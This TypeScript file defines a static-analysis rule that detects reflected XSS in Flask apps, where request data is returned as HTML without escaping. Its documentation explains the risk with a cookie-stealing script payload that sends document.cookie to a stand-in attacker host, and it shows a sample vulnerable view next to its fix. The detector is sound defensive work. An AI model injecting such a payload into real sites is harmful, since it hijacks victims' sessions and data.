import type { Node } from 'web-tree-sitter';
import type { RuleContext } from '../../engine/context';
import type { Taint } from '../../engine/taint';
import {
  contentTypeInHeaders,
  contentTypeValue,
  escapeEdits,
  escaper,
  isHtmlView,
  isMarkupCall,
  isNonHtmlValue,
  preciseTaint,
  responseContentType,
  responseKind,
  unwrap,
} from '../support/xss';
import type { PreciseTaintOptions } from '../support/xss';
import { defineRule } from '../rule';
import { REQUEST_DATA_TEXT } from '../../engine/taint';

/** Request data itself, and text derived from it; not values other functions computed from it. */
const REFLECTED: PreciseTaintOptions = { sink: 'html', followCalls: false };

export default defineRule({
  meta: {
    id: 'FS301',
    name: 'reflected-xss',
    title: 'Request data returned as HTML without escaping',
    severity: 'error',
    confidence: 'high',
    cwe: ['CWE-79'],
    owasp: ['A03:2021'],
    fix: { title: 'Escape the request data with markupsafe.escape()', safety: 'unsafe' },
    docs: {
      summary:
        'Finds request data (query string, form, JSON fields, headers, cookies, URL parameters) sent back in an HTML response without escaping: a string returned from a view or error handler (`return f"<h1>{name}</h1>"`, `return "Hello " + name`, `return name`, `return body, 200`, `return json.dumps(data)`, which Flask sends as text/html), and the body of `make_response(...)`, `flask.Response(...)`/`app.response_class(...)` anywhere. Values passed through `escape`/`markupsafe.escape`/`html.escape`/`bleach.clean` or converted with `int()`, bodies from `jsonify` or `render_template`, dictionaries (Flask serializes them as JSON), and responses declared with a non-HTML content type (`mimetype="application/json"`, `text/plain`, also when set afterwards on the response object) are not reported. Flask-RESTful/RESTX resources, whose return values are serialized to JSON, are left out, and so are values other functions compute from request data (a row looked up by a request id, a fetched page): only the data itself and text derived from it (formatting, string methods, containers, helpers in the file that return their input) count.',
      why: 'Flask sends a returned string as `text/html`. A value such as `<script>fetch("//evil.example/?c="+document.cookie)</script>` placed in a link to the page runs in the browser of whoever follows the link, with their session: the attacker reads their data, acts as them, or rewrites the page. Jinja templates escape values automatically; strings assembled in Python do not.',
      example:
        '@app.route("/hello")\ndef hello():\n    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"',
      fix: 'from markupsafe import escape\n\n@app.route("/hello")\ndef hello():\n    name = request.args.get("name", "")\n    return f"<h1>Hello {escape(name)}</h1>"\n    # better: return render_template("hello.html", name=name)',
    },
    references: [
      'https://owasp.org/www-community/attacks/xss/',
      'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
      'https://flask.palletsprojects.com/en/stable/quickstart/#html-escaping',
      'https://cwe.mitre.org/data/definitions/79.html',
    ],
  },
  // Every report needs request data.
  trigger: REQUEST_DATA_TEXT,
  check(ctx: RuleContext) {
    const reported = new Set<number>();
    const report = (body: Node, at: Node, taint: Taint, where: string) => {
      if (reported.has(at.id)) return;
      reported.add(at.id);
      // `return json.dumps(...)`: Flask sends a str as text/html, where `<script>` in a JSON string runs.
      if (isJsonText(ctx, body)) {
        ctx.report(
          at,
          `Request data (${taint.label}) is ${where} inside json.dumps() text: Flask sends a str as text/html, so a crafted link can run script in the victim's browser. Return jsonify(...) (application/json) instead.`,
          { taint },
        );
        return;
      }
      ctx.report(
        at,
        `Request data (${taint.label}) is ${where} without escaping: a crafted link can run script in the victim's browser. Escape it with markupsafe.escape(), or render a template.`,
        { taint, fix: fix(ctx, body) },
      );
    };

    for (const fn of ctx.file.functions) {
      if (!ctx.inFocus(fn.node) || !isHtmlView(ctx, fn)) continue;
      for (const returned of fn.returns) {
        for (const body of returnedBodies(ctx, returned)) {
          // `return Markup(f"...{x}...")` is FS302's.
          if (isNonHtmlValue(ctx, body) || isMarkupCall(ctx, body)) continue;
          const taint = preciseTaint(ctx, body, REFLECTED);
          if (taint) report(body, body, taint, `returned as HTML by ${fn.name}()`);
        }
      }
    }

    for (const site of ctx.file.calls) {
      if (!ctx.inFocus(site.node)) continue;
      const kind = responseKind(ctx, site);
      if (!kind) continue;
      let body =
        kind === 'Response'
          ? (site.args.positional[0] ?? site.args.keywords.get('response'))
          : site.args.positional[0];
      if (!body) continue;
      // make_response((body, 200, headers))
      const inner = unwrap(body);
      if (kind === 'make_response' && inner.type === 'tuple') body = inner.namedChildren[0] ?? body;
      if (isNonHtmlValue(ctx, body) || isMarkupCall(ctx, body)) continue;
      if (responseContentType(ctx, site, kind) !== 'html') continue;
      const taint = preciseTaint(ctx, body, REFLECTED);
      if (taint) report(body, site.node, taint, `used as the HTML body of ${site.calleeText ?? site.name}()`);
    }

    // `resp = make_response(); resp.set_data(body)` / `resp.data = body`: the body set after the fact.
    for (const { body, response } of lateBodies(ctx)) {
      if (!ctx.inFocus(body)) continue;
      const built = ctx.file.resolveValue(response);
      const site = built.type === 'call' ? ctx.file.callAt(built) : undefined;
      const kind = site ? responseKind(ctx, site) : null;
      if (!site || !kind || responseContentType(ctx, site, kind) !== 'html') continue;
      if (isNonHtmlValue(ctx, body) || isMarkupCall(ctx, body)) continue;
      const taint = preciseTaint(ctx, body, REFLECTED);
      if (taint) report(body, body, taint, `set as the HTML body of the response \`${response.text}\``);
    }
  },
});

/** Bodies given to a response object after it was built: `r.set_data(x)`, `r.data = x`, `r.response = [x]`. */
function lateBodies(ctx: RuleContext): { body: Node; response: Node }[] {
  const out: { body: Node; response: Node }[] = [];
  for (const site of ctx.file.callsNamed('set_data')) {
    const body = site.args.positional[0];
    if (body && site.receiver?.type === 'identifier') out.push({ body, response: site.receiver });
  }
  for (const scope of ctx.file.scopes) {
    for (const [name, bindings] of scope.bindings) {
      if (!/^\w+\.(data|response)$/.test(name)) continue;
      for (const binding of bindings) {
        const target = binding.node.childForFieldName('left');
        const object = target?.type === 'attribute' ? target.childForFieldName('object') : null;
        if (binding.kind !== 'assign' || !binding.value || object?.type !== 'identifier') continue;
        const value = unwrap(binding.value);
        const body = value.type === 'list' || value.type === 'tuple' ? value.namedChildren[0] : value;
        if (body) out.push({ body, response: object });
      }
    }
  }
  return out;
}

/**
 * The bodies a `return` statement can send: the first item of `(body, status[, headers])` unless the headers
 * declare a non-HTML content type, both branches of a conditional expression.
 */
function returnedBodies(ctx: RuleContext, returned: Node): Node[] {
  let value = unwrap(returned);
  if (value.type === 'expression_list' || value.type === 'tuple') {
    const items = value.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment');
    const headers = items.length >= 3 ? items[2] : items[1];
    const declared = contentTypeInHeaders(ctx, headers);
    if (declared && contentTypeValue(ctx, declared) !== 'html') return [];
    if (!items[0]) return [];
    value = unwrap(items[0]);
  }
  if (value.type === 'conditional_expression') {
    const [whenTrue, , whenFalse] = value.namedChildren;
    return [whenTrue, whenFalse].filter((c): c is Node => !!c).flatMap((c) => returnedBodies(ctx, c));
  }
  return [value];
}

const JSON_DUMPS = /^(flask\.json|json|simplejson|ujson|orjson|rapidjson)\.dumps$/;

function isJsonText(ctx: RuleContext, body: Node): boolean {
  const value = ctx.file.resolveValue(unwrap(body));
  return value.type === 'call' && JSON_DUMPS.test(ctx.file.callAt(value)?.callee ?? '');
}

function fix(ctx: RuleContext, body: Node) {
  const escape = escaper(ctx);
  if (!escape) return [];
  const edits = escapeEdits(ctx, body, (n) => !!preciseTaint(ctx, n, REFLECTED), escape.name);
  if (!edits || edits.length === 0) return [];
  return [...escape.edits, ...edits];
}
